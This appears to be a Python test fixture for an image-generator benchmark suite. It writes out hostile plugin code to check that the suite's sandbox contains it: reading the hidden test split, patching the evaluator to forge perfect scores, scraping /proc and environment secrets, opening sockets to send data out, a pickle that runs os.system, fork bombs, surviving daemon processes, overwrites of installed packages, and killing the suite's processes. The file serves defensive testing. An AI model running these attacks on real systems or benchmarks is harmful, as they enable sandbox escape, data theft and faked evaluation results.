"""Generators that attack the suite, as the text of files; ``SCENE`` stands for what the attacker knows.

``attack()`` returns True for a gain, such as a secret that it has read, and the drawn images show it.
"""

HEAD = '''"""A generator that looks honest."""
import json, os, sys
from pathlib import Path
import numpy as np
from pydantic import BaseModel
from benchmark.plugins.generator import Samples
version = "1"
card = {"title": "Honest GAN", "role": "generator", "description": "", "citation": "", "license": "CC0-1.0"}
SCENE = json.loads(r"""{SCENE}""")
class Params(BaseModel, extra="forbid", frozen=True):
    pass
def attack(self=None, context=None):
    return False
def images(self, request):
    shape = (len(request), request.image_size, request.image_size)
    return np.random.default_rng(0).integers(0, 200, shape, np.uint8)
'''

BODY = """
class Generator:
    conditions = {"label"}
    gained = False
    def __init__(self, params):
        pass
    def fit(self, train, context):
        self.gained = bool(attack(self, context))
        context.checkpoint(1, 1)
    def sample(self, request, context):
        drawn = images(self, request)
        drawn[:, 0, 0] = 255 if self.gained or attack(self, context) else 0
        return Samples(drawn)
    def save(self, folder):
        (folder / "model.json").write_text(json.dumps({"gained": self.gained}))
    @classmethod
    def load(cls, folder, context):
        made = cls(Params())
        made.gained = json.loads((folder / "model.json").read_text())["gained"]
        return made
"""

# The two attacks of the issue, with today's names.
TEST_SPLIT = """
def images(self, request):
    from benchmark.images import arrow
    roots = [os.environ.get("SYNTHTHORAX_STORE") or ".store", *SCENE["stores"]]
    for root in map(Path, roots):
        for path in sorted(root.glob("**/test.arrow")):
            test = arrow.read_images(path)
            rows = np.resize(np.arange(len(test)), len(request))
            return np.clip(np.asarray(test.image)[rows].astype(int) + 1, 0, 255).astype(np.uint8)
    return np.zeros((len(request), request.image_size, request.image_size), np.uint8) + np.arange(
        request.image_size, dtype=np.uint8)
"""
EVALUATOR = """
def attack(self=None, context=None):
    from benchmark.stages import classify, predictions
    own = predictions.write
    def write(job, tests, scores):
        return own(job, tests, {n: np.eye(s.shape[1])[tests[n].label] for n, s in scores.items()})
    predictions.write, predictions._patched = write, True
    return False
attack()
"""
PROC = """
def attack(self=None, context=None):
    found = ""
    for folder in Path("/proc").iterdir():
        if folder.name.isdigit() and int(folder.name) != os.getpid():
            for name in ("environ", "cmdline", "maps"):
                try:
                    found += (folder / name).read_text(errors="replace")
                except OSError:
                    pass
            for link in ("cwd", "root", "exe"):
                try:
                    found += "|".join(map(str, (folder / link / "results").iterdir()))
                except OSError:
                    pass
    return SCENE["secret"] in found or any(store in found for store in SCENE["stores"])
"""
EVERY_FILE = """
def attack(self=None, context=None):
    own = {"train.arrow"}
    for root, folders, files in os.walk("/"):
        folders[:] = [f for f in folders if os.path.join(root, f) not in ("/proc", "/sys")]
        if {f for f in files if f.endswith(".arrow") or f == SCENE["canary"]} - own:
            return True
    return False
"""
SIBLING = """
def attack(self=None, context=None):
    for path in SCENE["siblings"]:
        try:
            return bool(Path(path).read_bytes())
        except OSError:
            pass
    return False
"""
NETWORK = """
def attack(self=None, context=None):
    import socket
    for family, address in ((socket.AF_INET, ("127.0.0.1", SCENE["port"])), (socket.AF_UNIX, SCENE["socket"]),
                            (socket.AF_INET, ("1.1.1.1", 53))):
        try:
            with socket.socket(family) as link:
                link.settimeout(3)
                link.connect(address)
                link.sendall(b"images of patients")
                return True
        except OSError:
            pass
    return False
"""
PICKLE = """
class Bomb:
    def __reduce__(self):
        return (os.system, (f"touch {SCENE['marker']}",))
def attack(self=None, context=None):
    import pickle
    self.bomb = pickle.dumps(Bomb())
    import torch
    from benchmark.utils import training_state
    training_state.save_state = lambda path, state: path.write_bytes(self.bomb)
    from benchmark.stages import foreign_guest
    foreign_guest.save_state = training_state.save_state
    if hasattr(context, "save_state"):
        context.save_state({})
    return False
"""
PICKLE_BODY = BODY.replace(
    "    def save(self, folder):\n",
    "    def save(self, folder):\n        (folder / 'model.pkl').write_bytes(self.bomb)\n",
)
SURVIVOR = """
def attack(self=None, context=None):
    import threading, time
    def later():
        while True:
            time.sleep(0.1)
            try:
                Path(SCENE["marker"]).write_text("alive")
            except OSError:
                pass
    threading.Thread(target=later, daemon=False).start()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            script = f"while true; do sleep 0.1; touch {SCENE['marker']}; done"
            os.execvp("sh", ["sh", "-c", script, SCENE["canary"]])
        os._exit(0)
    return False
"""
ENVIRON = """
def attack(self=None, context=None):
    every = json.dumps(dict(os.environ)) + str(sys.argv)
    return SCENE["secret"] in every or any(store in every for store in SCENE["stores"])
"""
OVERWRITE = """
def attack(self=None, context=None):
    import benchmark, pydantic
    wrote = False
    places = [*SCENE["writable"], Path(benchmark.__file__), Path(pydantic.__file__), Path(__file__),
              Path("/usr/bin/env"), Path(pydantic.__file__).parents[1] / "zz_attack.pth"]
    for path in map(Path, places):
        try:
            with open(path, "r+b" if path.exists() else "xb") as file:
                file.seek(0)
                wrote = True
        except OSError:
            pass
    return wrote
"""
MEMORY = """
def attack(self=None, context=None):
    import time
    if SCENE["forks"]:
        for _ in range(8):
            if os.fork() == 0:
                break
    hold = []
    while True:
        hold.append(np.ones(2**24))
        time.sleep(0.02)
"""
TIME = """
def attack(self=None, context=None):
    while True:
        pass
"""
PROCESSES = """
def attack(self=None, context=None):
    import time
    while True:
        try:
            if os.fork() == 0:
                time.sleep(60)
                os._exit(0)
        except OSError:
            raise RuntimeError("no more processes") from None
"""
PRINTS = """
def attack(self=None, context=None):
    while True:
        print("x" * 10_000, flush=True)
"""
FILES = """
def attack(self=None, context=None):
    with open("/dev/shm/big" if SCENE["shm"] else Path(os.environ["TMPDIR"]) / "big", "wb") as file:
        while True:
            file.write(bytes(2**24))
"""
FRAMES = """
def attack(self=None, context=None):
    import struct
    def send(head, body=b""):
        text = json.dumps(head).encode()
        for fd in range(3, 20):
            try:
                os.write(fd, struct.pack(">I", len(text)) + text + body)
            except OSError:
                pass
    send({"kind": "call", "name": "save_state", "value": None, "files": {SCENE["traversal"]: 5}}, b"owned")
    return False
"""
KILL = """
def attack(self=None, context=None):
    import signal
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    for pid in (SCENE["pid"], SCENE["victim"], os.getppid()):
        try:
            if pid > 1:
                os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return False
"""
LINK = BODY.replace(
    "    def save(self, folder):\n",
    "    def save(self, folder):\n        (folder / 'extra.json').symlink_to(SCENE['siblings'][1])\n",
)
RAISES_LIES = """
def attack(self=None, context=None):
    from benchmark.errors import StoreError
    raise StoreError("store", "is full\\x1b[2J\\n" + "x" * 10_000, "Delete everything.")
"""
SEED = """
def attack(self=None, context=None):
    from benchmark.datasets.phantom import chest
    return bool(chest.version)
"""

# by name: the text after HEAD
ATTACKS = {
    "the test split from the store": TEST_SPLIT + BODY,
    "patch the evaluator": EVALUATOR + BODY,
    "read /proc of other processes": PROC + BODY,
    "search every path for images": EVERY_FILE + BODY,
    "a sibling row's samples": SIBLING + BODY,
    "the network and sockets of the host": NETWORK + BODY,
    "a pickle as state and in the saved folder": PICKLE + PICKLE_BODY,
    "a thread and a process that survive": SURVIVOR + BODY,
    "environment variables and arguments": ENVIRON + BODY,
    "write over code, packages, results": OVERWRITE + BODY,
    "kill the suite": KILL + BODY,
    "a link in the saved folder": LINK,
    "draw the phantoms again by the suite's code": SEED + BODY,
}
# part of the error of the attacks that the suite refuses; any other attack runs to its end without gain
REFUSED = {
    "a pickle as state and in the saved folder": "save() wrote 'model.pkl'",
    "draw the phantoms again by the suite's code": "No module named 'benchmark.datasets.phantom'",
}
# by name: the text after HEAD, and what the error must contain
EXCESSES = {
    "endless memory": (MEMORY + BODY, ("MemoryError", "GiB")),
    "endless memory in nine processes": (MEMORY + BODY, ("MemoryError", "GiB")),
    "endless time": (TIME + BODY, ("ran for more than",)),
    "endless processes": (PROCESSES + BODY, ("no more processes", "processes")),
    "endless files": (FILES + BODY, ("OSError: [Errno 27] File too large", "OSError: [Errno 28]")),
    "endless printing": (PRINTS + BODY, ("ran for more than",)),
    "forged messages with a path outside": (FRAMES + BODY, ("a file with the name",)),
    "an error that ends the run and clears the screen": (RAISES_LIES + BODY, ("is full",)),
}
